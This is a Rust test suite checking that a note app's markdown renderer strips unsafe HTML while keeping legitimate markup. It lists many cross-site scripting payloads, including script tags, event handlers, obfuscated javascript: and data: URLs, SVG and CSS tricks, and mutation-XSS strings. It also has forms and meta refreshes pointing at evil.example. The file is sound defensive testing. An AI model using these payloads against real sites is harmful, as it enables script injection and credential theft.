//! Each attack a note might try, and each thing notes legitimately write, through the whole first stage.

use crate::markdown::{render, RawHtml};

fn html(src: &str) -> String {
    render(src, "/", RawHtml::Sanitised, true).html
}

/// Asserts that none of `payloads` (lower-cased) is in the rendering of `src`.
fn assert_gone(src: &str, payloads: &[&str]) {
    let out = html(src);
    let lower = out.to_lowercase();
    for payload in payloads {
        assert!(!lower.contains(payload), "`{payload}` survived in {out:?} (from {src:?})");
    }
}

#[test]
fn script_elements_are_removed_with_their_content() {
    assert_gone("<script>window.pwned = 1</script>\n\ntext", &["<script", "pwned"]);
    assert_gone("text <script>window.pwned = 1</script> more", &["<script", "pwned"]);
    assert_gone("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", &["script", "evil"]);
}

#[test]
fn event_handler_attributes_are_removed() {
    assert_gone("<img src=x onerror=\"window.pwned=1\">", &["onerror", "pwned"]);
    assert_gone("<div onmouseover='pwned()'>hover</div>", &["onmouseover", "pwned"]);
    assert_gone("<details open ontoggle=pwned()><summary>s</summary></details>", &["ontoggle", "pwned"]);
    assert!(html("<img src=x onerror=\"window.pwned=1\">").contains("<img src=\"x\">"));
}

#[test]
fn javascript_urls_are_removed_from_html_and_markdown() {
    assert_gone("<a href=\"javascript:pwned()\">x</a>", &["javascript", "pwned"]);
    assert_gone("<a href=\"JaVaScRiPt:pwned()\">x</a>", &["javascript", "pwned"]);
    assert_gone("<a href=\"jav&#x09;ascript:pwned()\">x</a>", &["javascript", "ascript:", "pwned"]);
    assert_gone("<a href=\" javascript:pwned()\">x</a>", &["javascript", "pwned"]);
    assert_gone("<a href=\"vbscript:pwned()\">x</a>", &["vbscript", "pwned"]);
    assert_gone("[x](javascript:pwned\\(\\))", &["javascript", "pwned"]);
    assert_gone("[x](jav&#x09;ascript:pwned\\(\\))", &["ascript", "pwned"]);
    assert_gone("<javascript:pwned()>", &["href=\"javascript", "pwned()\""]);
    assert_gone("[x][r]\n\n[r]: javascript:pwned()", &["javascript", "pwned"]);
    assert_gone("![x](javascript:pwned\\(\\))", &["javascript"]);
    // The link's text stays, as text.
    assert_eq!(html("[click](javascript:pwned\\(\\))"), "<p><a>click</a></p>\n");
}

#[test]
fn data_urls_are_removed_from_links_and_images() {
    assert_gone("<a href=\"data:text/html,<script>pwned()</script>\">x</a>", &["data:", "pwned"]);
    assert_gone("<img src=\"data:image/svg+xml,<svg onload=pwned()>\">", &["data:", "pwned"]);
    assert_gone("[x](data:text/html;base64,PHNjcmlwdD4=)", &["data:"]);
    assert_gone("![x](data:image/png;base64,iVBORw0KGgo=)", &["data:"]);
}

#[test]
fn iframes_keep_https_sources_only_and_never_srcdoc() {
    let out = html("<iframe src=\"https://www.youtube-nocookie.com/embed/x\" width=\"560\" allowfullscreen></iframe>");
    assert!(
        out.contains("<iframe src=\"https://www.youtube-nocookie.com/embed/x\" width=\"560\" allowfullscreen=\"\">"),
        "{out}"
    );
    assert_gone("<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", &["srcdoc", "pwned"]);
    assert_gone("<iframe src=\"http://plain.example/\"></iframe>", &["plain.example"]);
    assert_gone("<iframe src=\"javascript:pwned()\"></iframe>", &["javascript", "pwned"]);
    assert_gone("<iframe src=\"https://ok.example/\" allow=\"camera; microphone\"></iframe>", &["camera"]);
}

#[test]
fn svg_and_mathml_written_in_a_note_do_not_run() {
    assert_gone("<svg onload=\"pwned()\"><circle r=\"4\"/></svg>", &["onload", "pwned", "<svg"]);
    assert_gone("<svg><script>pwned()</script></svg>", &["pwned", "<script"]);
    assert_gone("<svg><a href=\"javascript:pwned()\"><text>x</text></a></svg>", &["javascript", "pwned"]);
    assert_gone("<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", &["onerror", "pwned"]);
}

#[test]
fn styles_keep_safe_properties_only() {
    let out = html("<span style=\"color: red; position: fixed; top: 0; z-index: 9\">x</span>");
    assert!(out.contains("<span style=\"color:red\">x</span>"), "{out}");
    assert_gone("<span style=\"color: red; background: url(javascript:pwned())\">x</span>", &["style", "pwned"]);
    assert_gone("<span style=\"color: red; border: 1px u\\72 l(javascript:pwned())\">x</span>", &["style", "pwned"]);
    assert_gone("<p style=\"width: expression(pwned())\">x</p>", &["expression", "pwned"]);
    assert_gone("<div style=\"background-image: url(https://tracker.example/p.gif)\">x</div>", &["tracker"]);
    assert_gone("<style>body { display: none }</style>", &["<style", "display"]);
}

#[test]
fn forms_objects_and_document_level_tags_are_removed() {
    assert_gone(
        "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
        &["<form", "<input", "evil.example", "<button"],
    );
    assert_gone("<object data=\"x.swf\"></object><embed src=\"x.swf\">", &["<object", "<embed", "swf"]);
    assert_gone("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", &["<meta", "evil"]);
    assert_gone("<base href=\"https://evil.example/\">", &["<base", "evil"]);
    assert_gone("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", &["<link", "evil"]);
}

#[test]
fn comments_cannot_hide_a_script() {
    assert_gone("<!-- <script>pwned()</script> -->\n\ntext", &["pwned", "<!--"]);
    assert_gone("<!--[if IE]><script>pwned()</script><![endif]-->", &["pwned"]);
    assert_gone("a <!-- --><script>pwned()</script> b", &["pwned"]);
    assert_gone("<!--> <img src=x onerror=pwned()> -->", &["onerror", "pwned"]);
}

#[test]
fn nested_and_malformed_tags_do_not_get_through() {
    assert_gone("<scr<script>ipt>pwned()</scr</script>ipt>", &["<script"]);
    assert_gone("<<img src=x onerror=pwned()>>", &["onerror"]);
    assert_gone("<img src=x onerror=pwned() <b>", &["<img"]);
    assert_gone("<div title=\"\n\n<img src=x onerror=pwned()>\">", &["onerror"]);
    assert_gone("<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">", &["onerror"]);
    assert_gone("<textarea></textarea><img src=x onerror=pwned()>", &["onerror", "<textarea"]);
    assert_gone("<xmp><img src=x onerror=pwned()></xmp>", &["<img", "<xmp"]);
    // An element left open is closed within the note; a stray closing tag cannot close the page's own.
    let out = html("<div><b>open\n\n</div></div></main></body>");
    assert!(!out.contains("</main>") && !out.contains("</body>"), "{out}");
}

#[test]
fn placeholders_written_by_a_note_add_nothing() {
    // The note's HTML writes what a placeholder looks like, as characters and as entities: at worst one of
    // Loam's stretches moves, and none is repeated.
    let out = html("<div>\u{FDD0}0\u{FDD1} &#xFDD0;1&#xFDD1;&#xFDD0;1&#xFDD1; &#xFDD1;</div>\n\n*em* [[Link]]");
    assert_eq!(out.matches("<em>em</em>").count(), 1, "{out}");
    assert_eq!(out.matches("\0S0\0").count(), 1, "{out}");
    assert!(!out.contains(['\u{FDD0}', '\u{FDD1}']), "{out:?}");
    // In the note's text they are only text, kept as written.
    let out = html("<b>b</b> \u{FDD0}0\u{FDD1} &#xFDD1;");
    assert_eq!(out, "<p><b>b</b> \u{FDD0}0\u{FDD1} \u{FDD1}</p>\n");
    // One left open inside an attribute takes only the attribute with it.
    let out = html("<div title=\"\n\n*em*\n\n\">x</div>");
    assert!(!out.contains("title"), "{out}");
}

#[test]
fn what_notes_use_is_kept() {
    let src = "<details><summary>More</summary>\n\nInside **bold** and [[Other]].\n\n</details>\n\n\
               Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup>, H<sub>2</sub>O, <mark>marked</mark>, \
               <abbr title=\"HyperText\">HTML</abbr>, <u>u</u>, <span class=\"warning\" id=\"here\">span</span>.\n\n\
               <table><tr><th colspan=\"2\">h</th></tr><tr><td style=\"text-align: right\">1</td><td>2</td></tr></table>\n\n\
               <img src=\"https://example.org/a.png\" alt=\"a\" width=\"100\"> <img src=\"pics/b.png\" alt=\"b\">\n\n\
               <a href=\"https://example.org/\" target=\"_blank\">out</a> <a href=\"#here\">in</a> <a href=\"mailto:a@example.org\">mail</a>\n\n\
               <video src=\"clip.mp4\" controls></video>\n\n<div align=\"center\">centred</div>\n";
    let out = html(src);
    for kept in [
        "<details><summary>More</summary>",
        "<p>Inside <strong>bold</strong> and \0S0\0Other\0E0\0.</p>\n",
        "</details>",
        "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
        "x<sup>2</sup>",
        "H<sub>2</sub>O",
        "<mark>marked</mark>",
        "<abbr title=\"HyperText\">HTML</abbr>",
        "<u>u</u>",
        "<span class=\"warning\" id=\"here\">span</span>",
        "<th colspan=\"2\">h</th>",
        "<td style=\"text-align:right\">1</td>",
        "<img src=\"https://example.org/a.png\" alt=\"a\" width=\"100\">",
        "<img src=\"pics/b.png\" alt=\"b\">",
        "<a href=\"https://example.org/\" target=\"_blank\" rel=\"noopener noreferrer\">out</a>",
        "<a href=\"#here\" rel=\"noopener noreferrer\">in</a>",
        "<a href=\"mailto:a@example.org\" rel=\"noopener noreferrer\">mail</a>",
        "<video src=\"clip.mp4\" controls=\"\"></video>",
        "<div align=\"center\">centred</div>",
    ] {
        assert!(out.contains(kept), "`{kept}` is missing from {out}");
    }
}

#[test]
fn loams_own_markup_is_kept_byte_for_byte_beside_raw_html() {
    // Everything Loam writes, with a piece of raw HTML at the start and the end of the note: every byte
    // between them must be what the note renders without them.
    let own = "# Title ^x\n\n> [!tip]- Fold\n> body $x^2$ ==hi== #tag\n\n```rust\nfn main() {}\n```\n\n\
               ```mermaid\ngraph TD\n```\n\n- [ ] task\n- [x] done\n\nA footnote[^1] and [[Note#Part|label]] \
               ![[pic.png|30]] ![[Other]]\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nkept para ^block\n\n\
               [ext](https://example.org \"t\") ![img](https://example.org/i.png)\n\n[^1]: the note.\n";
    let plain = html(own);
    assert!(!plain.contains("\0R"), "no raw HTML, no markers: {plain:?}");
    let with_raw = html(&format!("<div class=\"intro\">\n\n{own}\n</div>\n"));
    // The footnotes are gathered after everything, the raw HTML's end too.
    let at = plain.find("<section class=\"footnotes\">").expect("the footnote is gathered at the end");
    let (body, footnotes) = plain.split_at(at);
    let inner = with_raw
        .strip_prefix("<div class=\"intro\">\n")
        .and_then(|rest| rest.strip_suffix(footnotes))
        .and_then(|rest| rest.strip_suffix("</div>\n"))
        .unwrap_or_else(|| panic!("{with_raw:?}"));
    assert_eq!(inner, body);
}

#[test]
fn unsafe_html_keeps_what_the_note_wrote() {
    let src = "<script>window.pwned = 1</script>\n\n<img src=x onerror=pwned()> [x](javascript:pwned\\(\\))";
    let out = render(src, "/", RawHtml::Kept, true).html;
    assert!(out.contains("<script>window.pwned = 1</script>"), "{out}");
    assert!(out.contains("<img src=x onerror=pwned()>"), "{out}");
    assert!(out.contains("href=\"javascript:pwned()\""), "{out}");
}

#[test]
fn html_in_an_image_description_stays_text() {
    let out = html("![a <img src=x onerror=pwned()> b](https://example.org/i.png)");
    assert_eq!(out, "<p><img src=\"https://example.org/i.png\" alt=\"a &lt;img src=x onerror=pwned()&gt; b\" /></p>\n");
}
